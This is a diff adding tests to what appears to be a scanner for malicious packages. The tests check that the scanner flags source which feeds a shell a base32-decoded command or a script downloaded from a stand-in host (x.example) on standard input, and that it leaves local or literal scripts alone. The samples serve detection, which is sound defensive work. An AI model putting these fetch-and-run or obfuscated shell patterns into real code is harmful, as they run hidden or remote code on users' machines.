@@ -1802,3 +1802,36 @@ def test_a_patched_library_function_whose_helper_only_logs_is_no_threat() -> Non
         assert not {
             r for r in danger(source, "shim/__init__.py", mode=mode) if r.startswith("CPL-THR")
         }
+
+
+# -- blind18: a shell given its script on standard input (b18-ds-sh-stdin-input) -------------
+
+
+@pytest.mark.parametrize(
+    ("source", "rule"),
+    [
+        (
+            "import base64, subprocess\n"
+            f"subprocess.run(['/bin/sh'], input=base64.b32decode({base64.b32encode(b'id').decode()!r}))\n",
+            "CPL-THR-001",
+        ),
+        (
+            "import subprocess, urllib.request\n"
+            "p = subprocess.Popen(['bash', '-s'], stdin=subprocess.PIPE)\n"
+            "p.communicate(urllib.request.urlopen('https://x.example/s').read())\n",
+            "CPL-THR-002",
+        ),
+    ],
+)
+def test_a_shell_fed_a_decoded_or_downloaded_script_on_stdin_runs_it(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str, rule: str
+) -> None:
+    found_in_a_package(tmp_path, monkeypatch, source, rule)
+
+
+def test_a_shell_fed_a_script_of_the_package_or_literal_text_stays_clean() -> None:
+    assert not danger(
+        "import subprocess\nsubprocess.run(['bash'], input='echo hello\\n', text=True)\n"
+        "with open('setup.sh') as fh:\n"
+        "    subprocess.run(['/bin/sh', '-s'], input=fh.read(), text=True)\n"
+    )
